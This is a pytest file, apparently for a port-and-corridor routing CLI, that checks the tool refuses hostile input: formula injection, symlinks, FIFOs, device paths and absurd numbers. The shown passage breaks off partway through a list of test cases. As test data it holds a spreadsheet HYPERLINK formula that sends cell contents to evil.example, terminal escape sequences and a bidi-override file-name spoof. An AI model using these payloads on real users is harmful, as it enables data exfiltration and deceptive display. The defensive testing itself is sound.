"""Hostile and careless input: every case is refused cleanly, and nothing the user did not name changes.

One test per defect of the hardening issue (items 2 to 13; the graph cache, item 1, belongs to
the engine), then a corpus of bad places, numbers, files, paths and names that grows with every
defect found. A refusal is: exit 1 or 2, nothing on stdout, exactly one line on stderr saying
what to fix, no traceback, no raw terminal control character, every file under the test's
directory (the dataset and everything beside it) byte for byte as it was.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import signal
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from corridor._fs import DatasetLock, check_output_path, sweep_temps
from corridor._text import csv_text, neutralise_cell, restore_cell
from corridor.datasets import load_dataset, read_places
from corridor.editing import add_place, init_dataset
from corridor.errors import DataError, WriteError
from corridor.io import dumps

from .conftest import snapshot

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
TITLE = "\x1b]0;pwned\x07"  # sets the terminal's title
CLEAR = "\x1b[2J\x1b[H"  # clears the screen
CSI = "\x9b2J"  # the one-byte control sequence introducer
BIDI = "Port \u202egnp.exe"  # reads backwards from the override on


def problems(err: str) -> list[str]:
    """Return the lines of stderr that are not progress (the first command on a dataset says it builds it)."""
    return [line for line in err.splitlines() if not line.startswith("corridor: building the network from ")]


def refused(result, code: int, *says: str) -> None:
    """Exit code as expected, nothing on stdout, one line on stderr saying `says`, no traceback."""
    assert result.code == code, (result.code, result.err)
    assert result.out == ""
    assert "Traceback" not in result.err
    assert len(problems(result.err)) == 1, result.err
    for words in says:
        assert words in result.err, result.err
    assert not any(ch in result.err for ch in "\x1b\x9b\x07\u202e"), "a raw control character reached stderr"


@pytest.fixture
def site(tiny):
    """The tiny dataset inside its test directory, and a fingerprint of that whole directory."""
    top = tiny.parent

    def state() -> dict[str, str]:
        return snapshot(top)

    return tiny, state


def corridor(*argv: str, timeout: float = 120, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "corridor", *argv], capture_output=True, text=True, timeout=timeout, **kwargs
    )


def add(root: Path, *extra: str, pid: str = "CNNEW", name: str = "New Port") -> list[str]:
    """`ports add` arguments for a seaport on the tiny coast."""
    base = ["--id", pid, "--name", name, "--country", "CN", "--lat", "-0.02", "--lon", "1.0", "--modes", "sea"]
    return ["ports", "add", *base, *extra, "--data", str(root)]


# --------------------------------------------------------------------------- 2. formula injection


def test_2_csv_cells_a_spreadsheet_would_run_are_neutralised(site, run):
    root, _ = site
    assert run(*add(root, name=FORMULA)).code == 0
    for argv in (
        ("ports", "list", "--format", "csv", "--data", str(root)),
        ("reach", "CNAAA", "--format", "csv", "--data", str(root)),
    ):
        result = run(*argv)
        assert result.code == 0, result.err
        cells = [cell for row in csv.reader(io.StringIO(result.out)) for cell in row]
        assert "'" + FORMULA in cells
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
        assert not any(cell.startswith("-") and not cell[1:].replace(".", "").isdigit() for cell in cells)
    listed = run("ports", "list", "--format", "csv", "--data", str(root)).out
    assert ",-0.02," in listed  # a negative number is a number, left as it is
    # The table keeps it neutralised too, and reads back exactly what was given.
    stored = [cell for row in csv.reader((root / "ports" / "places.csv").open(encoding="utf-8")) for cell in row]
    assert "'" + FORMULA in stored
    assert read_places(root / "ports" / "places.csv")["CNNEW"].name == FORMULA


@pytest.mark.parametrize("text", [FORMULA, "+1+2", "-x", "@SUM(A1)", "\t=1", "\r=1", "'=x", "''+y", "-3.5", "1e5"])
def test_2_the_csv_writer_round_trips_every_cell(text):
    (row,) = csv.reader(io.StringIO(csv_text([[text]]), newline=""))
    assert restore_cell(row[0]) == text
    assert neutralise_cell(text)[0] not in "=+@\t\r" or text in ("-3.5", "1e5")


# --------------------------------------------------------------------------- 3. init follows no link out


def test_3_init_refuses_a_link_out_of_the_dataset_and_keeps_private_modes(site, run, tmp_path):
    root, state = site
    secret = tmp_path / "secret.txt"
    secret.write_text("private\n")
    secret.chmod(0o600)
    (root / "notes.txt").symlink_to(secret)
    before = state()
    refused(run("init", str(tmp_path / "copy"), "--from", str(root)), 1, "outside the dataset", "notes.txt")
    assert state() == before and not (tmp_path / "copy").exists()

    (root / "notes.txt").unlink()
    (root / "private.csv").write_text("mine\n")
    (root / "private.csv").chmod(0o600)
    (root / "inside.csv").symlink_to(root / "parameters.csv")  # a link within the dataset is copied as a file
    assert run("init", str(tmp_path / "copy"), "--from", str(root), "-q").code == 0
    copy = tmp_path / "copy"
    assert (copy / "private.csv").stat().st_mode & 0o777 == 0o600
    assert not (copy / "inside.csv").is_symlink()
    assert (copy / "inside.csv").read_bytes() == (root / "parameters.csv").read_bytes()


def test_3_init_refuses_a_fifo_in_the_source(site, run, tmp_path):
    root, state = site
    os.mkfifo(root / "pipe.csv")
    before = state()
    refused(run("init", str(tmp_path / "copy"), "--from", str(root)), 1, "pipe.csv is a FIFO")
    assert state() == before


# --------------------------------------------------------------------------- 4. outputs


@pytest.mark.parametrize(
    ("target", "says"),
    [
        (lambda root, tmp: root / "ports" / "places.csv", "inside the dataset"),
        (lambda root, tmp: root / "new.html", "inside the dataset"),
        (lambda root, tmp: tmp, "is a directory, not a file"),
        (lambda root, tmp: Path("/dev/null"), "is a character device, not a file"),
    ],
    ids=["dataset-table", "dataset-new-file", "directory", "device"],
)
def test_4_a_map_never_replaces_a_dataset_file_a_device_or_a_directory(site, run, tmp_path, target, says):
    root, state = site
    path = target(root, tmp_path)
    before = state()
    refused(run("route", "CNAAA", "CNBBB", "--map", str(path), "--data", str(root)), 1, says)
    refused(run("map", "--out", str(path), "--data", str(root)), 1, says)
    assert state() == before


def test_4_a_map_refuses_a_fifo_and_a_read_only_file(site, run, tmp_path):
    root, state = site
    fifo, kept = tmp_path / "pipe.html", tmp_path / "kept.html"
    os.mkfifo(fifo)
    kept.write_text("mine")
    kept.chmod(0o444)
    before = state()
    refused(run("route", "CNAAA", "CNBBB", "--map", str(fifo), "--data", str(root)), 1, "is a FIFO")
    refused(run("route", "CNAAA", "CNBBB", "--map", str(kept), "--data", str(root)), 1, "is read-only")
    assert state() == before
    with pytest.raises(WriteError, match="inside the dataset"):
        check_output_path(tmp_path / "link.html", root) if (tmp_path / "link.html").symlink_to(
            root / "links" / "links.csv"
        ) is None else None


# --------------------------------------------------------------------------- 5. tracebacks


def test_5_stdout_full_closed_or_broken(tiny):
    # /dev/full: the write fails with ENOSPC.
    with open("/dev/full", "w") as full:
        done = subprocess.run([sys.executable, "-m", "corridor", "reach", "CNAAA", "--data", str(tiny)],
                              stdout=full, stderr=subprocess.PIPE, text=True, timeout=120)  # fmt: skip
    assert done.returncode == 1
    assert problems(done.stderr) == ["corridor: cannot write the output: No space left on device"]
    # A closed stdout: refused before any work, and no file gets its descriptor.
    command = f"exec {sys.executable} -m corridor route CNAAA CNBBB --data {tiny} >&-"
    done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=120)
    assert done.returncode == 1
    (line,) = problems(done.stderr)
    assert line.startswith("corridor: standard output is closed")
    # A reader that went away (as `head` does once it has its lines): quiet, exit 1.
    reader, writer = os.pipe()
    os.close(reader)
    try:
        done = subprocess.run([sys.executable, "-m", "corridor", "reach", "CNAAA", "--data", str(tiny)],
                              stdout=writer, stderr=subprocess.PIPE, text=True, timeout=120)  # fmt: skip
    finally:
        os.close(writer)
    assert done.returncode == 1
    assert problems(done.stderr) == []


LINE_OF_A_NUMBER = {"type": "LineString", "coordinates": 5}


@pytest.mark.parametrize(
    "content",
    [
        {"type": "FeatureCollection", "features": 5},
        {"type": "FeatureCollection", "features": [5]},
        {"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": LINE_OF_A_NUMBER}]},
        [1, 2],
    ],
    ids=["features-number", "feature-number", "coordinates-number", "list"],
)
def test_5_a_track_file_of_the_wrong_shape_is_a_one_line_error(site, run, content):
    root, state = site
    track = root / "rail-odbl" / "rail_cn_seasia_osm.geojson.gz"
    track.parent.mkdir()
    with gzip.open(track, "wt") as handle:
        json.dump(content, handle)
    before = state()
    # Routing never reads the track; drawing along it and validating do.
    refused(
        run("route", "CNAAA", "CNBBB", "--modes", "rail", "--format", "geojson", "--data", str(root)), 1, str(track)
    )
    result = run("validate", "--data", str(root))
    assert result.code == 1 and str(track) in result.out and "Traceback" not in result.err
    assert state() == before


@pytest.mark.parametrize("table", ["links/links.csv", "ports/places.csv", "parameters.csv", "sea/marnet.geojson"])
def test_5_a_dataset_file_linked_to_dev_zero_is_refused_before_reading(site, table):
    root, state = site
    (root / table).unlink()
    (root / table).symlink_to("/dev/zero")
    before = state()
    done = corridor("route", "CNAAA", "CNBBB", "--data", str(root), timeout=60)
    assert done.returncode == 1 and done.stdout == "" and "Traceback" not in done.stderr
    (line,) = problems(done.stderr)
    assert f"{root / table} is a character device, not " in line
    assert state() == before


@pytest.mark.parametrize("table", ["links/links.csv", "ports/places.csv", "countries.csv"])
def test_5_a_dataset_file_that_is_a_fifo_is_refused_not_waited_on(site, table):
    root, state = site
    (root / table).unlink()
    os.mkfifo(root / table)
    before = state()
    for argv in (("route", "CNAAA", "CNBBB"), ("validate",), ("ports", "add", "--id", "CNX1", "--name", "X",
                                                             "--country", "CN", "--lat", "1", "--lon", "1",
                                                             "--modes", "rail")):  # fmt: skip
        done = corridor(*argv, "--data", str(root), timeout=60)
        assert done.returncode == 1, done.stderr
        assert "Traceback" not in done.stderr
        assert f"{root / table} is a FIFO (named pipe), not " in done.stdout + done.stderr
    assert state() == before


def test_5_a_scenario_that_is_a_fifo_does_not_hold_up_a_removal(site):
    # ports remove and links remove read each scenarios/*.toml for what it names with read_text:
    # a FIFO there blocked them for ever (validate and route already refused it).
    root, _ = site
    (root / "scenarios").mkdir(exist_ok=True)
    os.mkfifo(root / "scenarios" / "pipe.toml")
    for argv in (("ports", "remove", "CNPPP"), ("links", "remove", "road-c-d")):
        done = corridor(*argv, "--data", str(root), timeout=60)
        assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    assert "CNPPP" not in (root / "ports" / "places.csv").read_text()


# --------------------------------------------------------------------------- 6. terminal control characters


@pytest.mark.parametrize(
    ("flag", "value", "says"),
    [
        ("--name", f"Evil{TITLE}", "name: contains a control character ('\\x1b')"),
        ("--name", f"Evil{CSI}", "name: contains a control character ('\\x9b')"),
        ("--name", BIDI, "name: contains a bidirectional-text control ('\\u202e')"),
        ("--alias", f"Alias{CLEAR}", "aliases: contains a control character"),
        ("--notes", f"note{TITLE}", "notes: contains a control character"),
        ("--area", "\u2066isolate", "area: contains a bidirectional-text control"),
        ("--name", "Bravo\u200bPort", "name: contains an invisible character ('\\u200b')"),  # prints as Bravo Port
        ("--alias", "\ufeffAlpha", "aliases: contains an invisible character"),
    ],
)
def test_6_control_characters_and_bidi_overrides_are_refused_on_input(site, run, flag, value, says):
    root, state = site
    before = state()
    refused(run(*add(root, flag, value)), 1, says)
    assert state() == before


@pytest.mark.parametrize(
    ("table", "column"),
    [("ports/places.csv", "notes"), ("ports/places.csv", "aliases"), ("links/links.csv", "name"),
     ("ports/wpi_ports.csv", "name"), ("sources.csv", "title")],
)  # fmt: skip
def test_6_validate_finds_control_characters_in_every_table(site, run, table, column):
    root, state = site
    path = root / table
    if table == "ports/wpi_ports.csv":
        path.write_text("wpi_number,name,unlocode,country_code,lat,lon,harbor_size\n1,Delta,CNDDD,CN,-0.03,2.6,Small\n")
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    rows[0][column] = f"x{TITLE}y"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    before = state()
    result = run("validate", "--data", str(root))
    assert result.code == 1
    assert f"{path}:2: {column}: contains a control character ('\\x1b')" in result.out
    assert "\x1b" not in result.out + result.err
    assert state() == before


def test_6_text_that_reaches_the_terminal_is_escaped(site, run):
    root, _ = site
    for argv in (("ports", "show", f"Alpha{TITLE}"), ("route", CLEAR, "CNBBB"), ("route", "CNAAA", BIDI)):
        result = run(*argv, "--data", str(root))
        refused(result, 1, "unknown place")
    # Text from the data itself (a World Port Index table written before this rule) is shown escaped.
    from corridor._text import printable

    assert printable(f"a{TITLE}b{BIDI}") == "a\\u001b]0;pwned\\u0007bPort \\u202egnp.exe"
    assert json.loads(f'"{printable(CSI)}"') == CSI  # the escape is also JSON


# --------------------------------------------------------------------------- 7. the lock file


@pytest.mark.parametrize("kind", ["symlink", "directory", "fifo"])
def test_7_a_lock_file_that_is_not_a_file_is_refused_and_followed_nowhere(site, run, tmp_path, kind):
    root, state = site
    lock, outside = root / ".corridor.lock", tmp_path / "created-outside"
    if kind == "symlink":
        lock.symlink_to(outside)
    elif kind == "directory":
        lock.mkdir()
    else:
        os.mkfifo(lock)
    before = state()
    refused(run(*add(root)), 1, ".corridor.lock is ", "not a lock file")
    assert not outside.exists()
    assert state() == before


# --------------------------------------------------------------------------- 8. numbers


@pytest.mark.parametrize("teu", ["1e308", "1.7e308", "2e6"])
def test_8_a_teu_beyond_any_shipment_is_refused_by_every_command(site, run, teu):
    root, state = site
    before = state()
    commands = (
        ("route", "CNAAA", "CNBBB"), ("compare", "CNAAA", "CNBBB"), ("reach", "CNAAA"),
        ("matrix", "CNAAA", "--to", "CNBBB"), ("pareto", "CNAAA", "CNBBB"),
        ("scenario", "compare", "CNAAA", "CNBBB", "--scenario", "nothing"),
    )  # fmt: skip
    for argv in commands:
        result = run(*argv, "--teu", teu, "--data", str(root))
        refused(result, 2, "--teu", "is above 1,000,000: give 1,000,000 or less")
    assert state() == before


def test_8_criticality_takes_no_teu_it_would_ignore(site, run):
    root, _ = site
    refused(run("criticality", "CNAAA", "--to", "CNBBB", "--teu", "5", "--data", str(root)), 2, "--teu")


def test_8_json_never_holds_nan_or_infinity():
    for value in (float("inf"), float("-inf"), float("nan")):
        with pytest.raises(DataError, match="not a finite number"):
            dumps({"cost_usd": value})


# --------------------------------------------------------------------------- 9. impossible links


def test_9_links_add_refuses_a_speed_outside_the_mode_s_range(site, run):
    root, state = site
    before = state()
    result = run("links", "add", "CNBBB", "CNCCC", "--mode", "rail", "--distance-km", "1500", "--time-h", "0.02",
                 "--data", str(root))  # fmt: skip
    refused(result, 1, "75,000.0 km/h", "outside the plausible 1-160 km/h for rail")
    result = run("links", "add", "CNAAA", "CNBBB", "--mode", "road", "--time-h", "0.5", "--data", str(root))
    refused(result, 1, "outside the plausible 1-100 km/h for road")
    assert state() == before


def test_9_validate_refuses_an_impossible_link_as_an_error(site, run):
    root, state = site
    links = root / "links" / "links.csv"
    links.write_text(links.read_text() + "rail-fast,CNAAA,CNBBB,rail,1500,estimate,0.02,estimate\n")
    before = state()
    result = run("validate", "--data", str(root))
    assert result.code == 1
    assert "link rail-fast: time_h: 1,500 km in 0.02 h is 75,000.0 km/h, outside the plausible" in result.out
    parameters = load_dataset(root).parameters
    assert parameters[("max_speed_kmh", "rail")].source.startswith("S18")  # every bound cites its source
    assert all(p.source for (name, _), p in parameters.items() if name.endswith("_speed_kmh"))
    assert state() == before


# --------------------------------------------------------------------------- 10. silent data loss


def test_10_a_links_table_that_is_a_directory_is_an_error(site, run):
    root, state = site
    links = root / "links" / "links.csv"
    links.unlink()
    links.mkdir()
    before = state()
    refused(run("route", "CNAAA", "CNCCC", "--data", str(root)), 1, f"{links} is a directory, not a CSV table")
    assert run("validate", "--data", str(root)).code == 1
    refused(run(*add(root)), 1, "is a directory, not a CSV table")
    assert state() == before


@pytest.mark.parametrize(
    ("name", "says"),
    [
        ("bravo port", ("shares a name with Bravo Port (CN, CNBBB)", "give the id (CNNEW, CNBBB)")),
        # Once, a port named like an area (Chongqing) was added without a word.
        ("charlie city", ("bears the name of the area Charlie City (CNCCC, CNCCD)", "give the id CNNEW")),
    ],
)
def test_10_a_place_whose_name_another_bears_is_warned_of_with_the_id_to_use(site, run, name, says):
    root, _ = site
    result = run(*add(root, name=name))
    assert result.code == 0, result.err
    for words in says:
        assert words in result.err


def test_10_a_place_named_like_an_area_is_told_apart_from_it_by_its_id(site, run):
    # Once, `route NEW ...` failed with "no route from Chongqing", as if the Chongqing area were cut off.
    root, _ = site
    assert run(*add(root, name="charlie city")).code == 0
    refused(run("route", "CNNEW", "IDIII", "--data", str(root)), 1, "no route from charlie city (CNNEW) to Island Port")
    area = run("route", "Charlie City", "CNBBB", "--data", str(root))
    assert area.out.startswith("Cheapest route from Charlie Terminal")  # the name still means the area


# --------------------------------------------------------------------------- 11. large datasets


def test_11_a_waiting_writer_waits_while_the_holder_makes_progress(tiny):
    holder = DatasetLock(tiny, stall_s=0.3)
    holder.acquire()

    def work() -> None:
        for step in range(12):  # 1.2 s of work, progress every 0.1 s: four times the stall limit
            time.sleep(0.1)
            holder.progress(f"step {step}")
        holder.release()

    worker = threading.Thread(target=work)
    worker.start()
    started = time.monotonic()
    with DatasetLock(tiny, stall_s=0.3):
        waited = time.monotonic() - started
    worker.join()
    assert waited >= 1.0


def test_11_a_waiting_writer_gives_up_on_a_holder_that_makes_no_progress(tiny):
    with DatasetLock(tiny), pytest.raises(WriteError, match=f"pid {os.getpid()}.* no progress"):
        DatasetLock(tiny, stall_s=0.2).acquire()


def test_11_a_write_checks_only_what_it_touches(site, run):
    root, _ = site
    places = root / "ports" / "places.csv"
    with places.open("a", newline="", encoding="utf-8") as handle:
        header = places.read_text().splitlines()[0].split(",")
        bad = {"id": "CNOLD", "name": "Old Depot", "country": "CN", "lat": "95", "lon": "1", "kind": "dry_port",
               "modes": "road", "coord_source": "estimate"}  # fmt: skip
        csv.writer(handle, lineterminator="\n").writerow([bad.get(c, "") for c in header])
    # The bad row is the full check's business; a write that does not touch it goes ahead.
    assert run("validate", "--data", str(root)).code == 1
    result = run("ports", "add", "--id", "CNDRY", "--name", "Dry", "--country", "CN", "--lat", "1.5", "--lon", "2",
                 "--modes", "road", "--data", str(root))  # fmt: skip
    assert result.code == 0, result.err
    assert places.read_text().splitlines()[-1].startswith("CNDRY,Dry,")
    # A link to the bad row's place needs that row, and is refused with its problem.
    result = run("links", "add", "CNOLD", "CNDRY", "--mode", "road", "--data", str(root))
    refused(result, 1, "problems to fix", "lat: 95 is outside")


# --------------------------------------------------------------------------- 12. leftovers


def test_12_a_terminated_writer_leaves_no_temporary_file(site, tmp_path):
    root, _ = site
    hooks = tmp_path / "hooks"
    hooks.mkdir()
    places = root / "ports" / "places.csv"
    before = places.read_bytes()
    env = {**os.environ, "CORRIDOR_TEST_HOOK_DIR": str(hooks), "CORRIDOR_TEST_PAUSE": "partial"}
    argv = [sys.executable, "-m", "corridor", *add(root)]
    writer = subprocess.Popen(argv, env=env, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while not (hooks / "partial").exists():
        assert writer.poll() is None and time.monotonic() < deadline, "the writer never reached its write"
        time.sleep(0.01)
    assert list(places.parent.glob(".places.csv.*.tmp"))  # half the new table is on disk
    writer.send_signal(signal.SIGTERM)
    _, err = writer.communicate(timeout=60)
    assert writer.returncode == 128 + signal.SIGTERM
    assert err.strip() == "corridor: terminated"
    assert places.read_bytes() == before
    assert not list(places.parent.glob(".places.csv.*.tmp"))


def test_12_leftovers_of_killed_processes_are_swept_and_live_ones_kept(tmp_path):
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    gone = int(dead.stdout)
    stale = tmp_path / f".route.html.{gone}.abcd1234.tmp"
    live = tmp_path / f".route.html.{os.getpid()}.efgh5678.tmp"
    staging = tmp_path / f".mine.{gone}.ijkl9012.tmp"
    stale.write_text("half a map")
    live.write_text("being written")
    staging.mkdir()
    (staging / "places.csv").write_text("half a copy")
    other = tmp_path / "keep.html"
    other.write_text("a map")
    assert sweep_temps(tmp_path) == 2
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([live.name, other.name])


def test_12_a_write_leaves_no_trial_copy_behind(site, run, tmp_path):
    import tempfile

    root, _ = site
    before = {p.name for p in Path(tempfile.gettempdir()).glob("corridor-trial-*")}
    assert run(*add(root)).code == 0
    assert {p.name for p in Path(tempfile.gettempdir()).glob("corridor-trial-*")} == before


# --------------------------------------------------------------------------- 13. misleading messages


def test_13_a_path_of_the_wrong_type_is_named_for_what_it_is(site, run, tmp_path):
    root, state = site
    a_file = tmp_path / "file.txt"
    a_file.write_text("x")
    before = state()
    refused(run("route", "CNAAA", "CNBBB", "--data", str(a_file)), 1, "is a file, not a directory")
    refused(run("validate", "--data", str(a_file)), 1, "is a file, not a directory")
    refused(run("route", "CNAAA", "CNBBB", "--params", str(tmp_path), "--data", str(root)), 1,
            "is a directory, not a parameters CSV table")  # fmt: skip
    refused(run("ports", "import", str(tmp_path), "--data", str(root)), 1, "is a directory, not a file")
    for result in (run("route", "CNAAA", "CNBBB", "--data", str(a_file)), run("ports", "import", str(tmp_path))):
        assert "does not exist" not in result.err
    assert state() == before


def test_13_problems_name_lines_not_byte_offsets(site, run, tmp_path):
    root, state = site
    source = tmp_path / "import.csv"
    source.write_bytes(b"id,name,country,lat,lon,modes\nCNOK1,Fine,CN,1,1,rail\nCNOK2,Caf\xe9,CN,1,1,rail\n")
    before = state()
    refused(run("ports", "import", str(source), "--data", str(root)), 1, f"{source}:3: not UTF-8 text")
    assert state() == before
    # A quoted cell spanning two lines: the next row's problems name the line it starts on.
    source.write_text('id,name,country,lat,lon,modes\nCNOK1,"Two\nLines",CN,1,1,rail\nCNOK2,North,CN,95,1,rail\n')
    before = state()
    result = run("ports", "import", str(source), "--data", str(root))
    assert result.code == 1
    assert f"{source}:4: lat: 95 is outside" in result.err
    assert f"{source}:2: name: contains a control character" in result.err
    assert state() == before


# --------------------------------------------------------------------------- review of 2026-12-05


def _file(path: Path, text: str) -> str:
    path.write_text(text, encoding="utf-8")
    return str(path)


def test_params_with_an_implausible_mode_speed_are_refused_naming_the_file(site, run, tmp_path):
    root, state = site
    params = _file(tmp_path / "slow.csv", "name,scope,value,source\nspeed_kmh,road,1e-320,estimate\n")
    before = state()
    for argv in (("route", "CNAAA", "CNBBB", "--modes", "road"), ("validate",)):
        result = run(*argv, "--params", params, "--data", str(root))
        assert result.code == 1 and "Traceback" not in result.err
        assert f"{params}: speed_kmh for road is 9.99989e-321, outside the plausible 1-100 km/h" in (
            result.err + result.out
        )
    assert len(problems(run("route", "CNAAA", "CNBBB", "--params", params, "--data", str(root)).err)) == 1
    assert state() == before


def test_a_broken_dataset_is_one_line_and_v_lists_every_problem(site, run):
    root, _ = site
    places = root / "ports" / "places.csv"
    rows = places.read_text(encoding="utf-8").splitlines()
    places.write_text("\n".join([rows[0], *rows[1:3], "CNXX1,,CN,1,1", "CNXX2,Two,CN,95,1"]) + "\n", encoding="utf-8")
    result = run("route", "CNAAA", "CNBBB", "--data", str(root))
    refused(result, 1, "problems, first:", "(-v lists all")
    listed = run("route", "CNAAA", "CNBBB", "-v", "--data", str(root))
    assert listed.code == 1 and len(problems(listed.err)) > 2


def test_validate_warns_of_a_missing_countries_or_links_table(site, run):
    root, _ = site
    (root / "countries.csv").unlink()
    (root / "links" / "links.csv").unlink()
    result = run("validate", "--warnings", "--data", str(root))
    assert "countries.csv is missing: no country code is checked" in result.out
    assert "links.csv is missing: the dataset has no links" in result.out


def _append_link(root: Path, **cells: str) -> None:
    """Append a row to the dataset's links table as a user's editor would, bypassing corridor's checks."""
    links = root / "links" / "links.csv"
    header = links.read_text(encoding="utf-8").splitlines()[0].split(",")
    row = {**dict.fromkeys(header, ""), **cells}
    links.write_text(links.read_text(encoding="utf-8") + ",".join(row[c] for c in header) + "\n", encoding="utf-8")


def test_validate_refuses_customs_clearance_on_a_link_inside_one_country(site, run):
    root, _ = site
    _append_link(root, id="road-cleared", **{"from": "CNAAA"}, to="CNCCC", mode="road", customs="cleared")
    result = run("validate", "--data", str(root))
    assert result.code == 1
    assert "link road-cleared: customs: is cleared, but both ends are in CN" in result.out


def test_validate_refuses_a_source_id_the_sources_table_does_not_list(site, run):
    root, _ = site
    _append_link(root, id="road-ghost", **{"from": "CNAAA"}, to="CNCCC", mode="road", distance_km="300",
                 distance_source="S99999: a document nobody listed")  # fmt: skip
    result = run("validate", "--data", str(root))
    assert result.code == 1
    assert "distance_source: cites S99999, which" in result.out and "sources.csv does not list" in result.out


def test_a_write_refuses_a_source_id_the_sources_table_does_not_list(site, run, tmp_path):
    # Each was written, and `corridor validate` then refused the dataset for the row just written.
    root, state = site
    (tmp_path / "links.csv").write_text("from,to,mode,distance_km,distance_source\nCNAAA,CNCCD,road,300,S99999\n")
    before = state()
    for argv in (
        ("ports", "add", "--id", "CNZZZ", "--name", "Zulu", "--country", "CN", "--lat", "1.2", "--lon", "1.1",
         "--modes", "road", "--source", "S99999"),
        ("ports", "edit", "CNCCC", "--handling-h", "3", "--source", "S99999: a document nobody listed"),
        ("links", "add", "CNAAA", "CNCCD", "--mode", "road", "--distance-km", "300", "--source", "S99999"),
        ("links", "edit", "rail-c-a", "--time-h", "9", "--source", "S99999"),
        ("links", "import", str(tmp_path / "links.csv")),
    ):  # fmt: skip
        result = run(*argv, "--data", str(root))
        assert result.code == 1 and "Traceback" not in result.err, result.err
        assert "cites S99999, which" in result.err and "sources.csv does not list" in result.err
        assert state() == before


def test_an_import_from_a_file_named_like_a_source_id_is_no_citation(site, run, tmp_path):
    # Its rows are marked "estimate: imported from S2024-links.csv, unsourced": no document is cited.
    root, _ = site
    (tmp_path / "S2024-links.csv").write_text("from,to,mode,distance_km\nCNAAA,CNCCD,road,300\n")
    result = run("links", "import", str(tmp_path / "S2024-links.csv"), "--data", str(root))
    assert result.code == 0, result.err
    checked = run("validate", "--data", str(root)).out
    assert "sources.csv does not list" not in checked and "IDIII" in checked  # the tiny set's own island is found


def test_a_scenario_naming_an_unknown_place_fails_when_shown(site, run, tmp_path):
    root, _ = site
    scenario = _file(tmp_path / "atlantis.toml", (
        'name = "atlantis"\ntitle = "Atlantis closes"\n\n[[close]]\nplaces = ["Atlantis"]\nsource = "estimate"\n'
    ))  # fmt: skip
    refused(run("scenario", "show", scenario, "--data", str(root)), 1, "unknown place 'Atlantis'")


def test_an_unknown_name_is_echoed_cut_short(site, run):
    root, _ = site
    result = run("route", "Z" * 100_000, "CNBBB", "--data", str(root))
    refused(result, 1, "unknown place 'ZZZ")
    assert len(result.err) < 300


# --------------------------------------------------------------------------- the corpus


def _places(root: Path, tmp: Path) -> str:
    return str(root / "ports" / "places.csv")


CORPUS = [
    # bad places
    ("place-lat-huge", lambda r, t: add(r, "--lat", "1e308"), 1, "lat: 1e+308 is outside"),
    ("place-lon-inf", lambda r, t: add(r, "--lon=-1e309"), 2, "not a finite number"),
    ("place-inland-seaport", lambda r, t: add(r, "--lat", "1.5", "--lon", "2"), 1, "cannot join the sea lanes"),
    ("place-id-escape", lambda r, t: add(r, pid=f"CN{CLEAR}"), 1, "id: contains a control character"),
    ("place-id-taken-case", lambda r, t: add(r, pid="cnaaa"), 1, "duplicate id 'cnaaa'"),
    ("link-unknown-end", lambda r, t: ["links", "add", "CNAAA", "Atlantis", "--mode", "rail", "--data", str(r)], 1,
     "unknown place 'Atlantis'"),
    ("link-area-end", lambda r, t: ["links", "add", "CNAAA", "Charlie City", "--mode", "rail", "--data", str(r)], 1,
     "names the area"),
    # bad numbers
    ("teu-infinite", lambda r, t: ["route", "CNAAA", "CNBBB", "--teu", "1e309", "--data", str(r)], 2,
     "not a finite number"),
    ("teu-nan", lambda r, t: ["reach", "CNAAA", "--teu", "nan", "--data", str(r)], 2, "not a positive number"),
    ("distance-huge", lambda r, t: ["links", "add", "CNBBB", "CNCCC", "--mode", "rail", "--distance-km", "1e308",
                                    "--data", str(r)], 1, "distance_km: 1e+308 is outside"),
    ("time-tiny", lambda r, t: ["links", "add", "CNBBB", "CNCCC", "--mode", "rail", "--time-h", "1e-300",
                                "--data", str(r)], 1, "time_h: 1e-300 is outside"),
    ("frequency-huge", lambda r, t: ["links", "add", "CNBBB", "CNCCC", "--mode", "rail", "--frequency-per-week",
                                     "1e300", "--data", str(r)], 1, "frequency_per_week: 1e+300 is outside"),
    ("limit-zero", lambda r, t: ["reach", "CNAAA", "--limit", "0", "--data", str(r)], 2, "not a positive"),
    ("cargo-value-negative", lambda r, t: ["route", "CNAAA", "CNBBB", "--by", "generalized", "--cargo-value-usd",
                                           "-1", "--data", str(r)], 2, "'-1' is outside 0-1,000,000,000"),
    # bad files
    ("import-dev-zero", lambda r, t: ["ports", "import", "/dev/zero", "--data", str(r)], 1,
     "/dev/zero is a character device, not a file"),
    ("import-directory", lambda r, t: ["ports", "import", str(t), "--data", str(r)], 1, "is a directory, not a file"),
    ("import-missing", lambda r, t: ["ports", "import", str(t / "none.csv"), "--data", str(r)], 1, "does not exist"),
    ("params-dev-null", lambda r, t: ["route", "CNAAA", "CNBBB", "--params", "/dev/null", "--data", str(r)], 1,
     "/dev/null is a character device, not a parameters CSV table"),
    # bad paths
    ("data-dev-null", lambda r, t: ["route", "CNAAA", "CNBBB", "--data", "/dev/null"], 1, "not a directory"),
    ("data-missing", lambda r, t: ["validate", "--data", str(t / "nowhere")], 1, "does not exist"),
    ("map-into-dataset", lambda r, t: ["compare", "CNAAA", "CNBBB", "--map", _places(r, t), "--data", str(r)], 1,
     "inside the dataset"),
    ("map-under-a-file", lambda r, t: ["map", "--out", _places(r, t) + "/x.html", "--data", str(r)], 1,
     "inside the dataset"),
    ("map-dev-full", lambda r, t: ["route", "CNAAA", "CNBBB", "--map", "/dev/full", "--data", str(r)], 1,
     "is a character device"),
    ("init-over-a-file", lambda r, t: ["init", _places(r, t)], 1, "is a file: give a new directory"),
    # hostile names
    ("name-title", lambda r, t: add(r, name=f"Port{TITLE}"), 1, "contains a control character ('\\x1b')"),
